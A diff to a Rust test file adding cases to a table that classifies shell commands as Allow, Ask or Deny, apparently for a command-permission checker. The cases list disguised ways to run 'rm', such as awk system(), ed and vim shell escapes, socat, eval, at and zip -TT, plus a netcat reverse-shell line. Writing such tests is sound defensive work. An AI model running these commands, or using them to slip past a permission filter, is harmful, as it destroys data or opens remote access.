@@ -53,6 +53,7 @@ fn world() -> World {
     std::fs::write(base.join("outside/file"), "o\n").unwrap();
     std::fs::write(base.join("outside.txt"), "o\n").unwrap();
     std::os::unix::fs::symlink(base.join("outside"), root.join("link_out")).unwrap();
+    std::os::unix::fs::symlink("/bin/rm", root.join("del")).unwrap();
     World { _tmp: tmp, root, home }
 }
 
@@ -775,6 +776,20 @@ fn trust_conformance_table() {
         rm("nix-shell --run 'rm x'", Deny),
         rm("/lib64/ld-linux-x86-64.so.2 /bin/rm x", Ask),
         rm("unbuffer rm x", Deny),
+        rm("./del x", Ask),
+        rm("/proc/self/exe -c 'rm x'", Ask),
+        rm("eval -- 'rm x'", Deny),
+        rm("awk 'BEGIN { system(\"rm x\") }'", Ask),
+        rm("awk 'BEGIN { print | \"sh\" }'", Ask),
+        rm("awk -f prog.awk a.txt", Ask),
+        rm("awk '{ print $1 }' a.txt", Allow),
+        rm("ed -s a.txt <<< '!rm x'", Ask),
+        rm("vim -es -c '!rm x' -c q", Ask),
+        rm("socat - SYSTEM:'rm x'", Ask),
+        rm("nc -e /bin/sh host 1", Ask),
+        rm("echo 'rm x' | at now", Ask),
+        rm("tmux new -d 'rm x'", Ask),
+        rm("zip -TT 'rm x' a.zip a.txt", Ask),
         rm("echo rm x", Ask),
         rm("printf '%s\\n' rm x", Ask),
         rm("no-such-wrapper rm x", Ask),
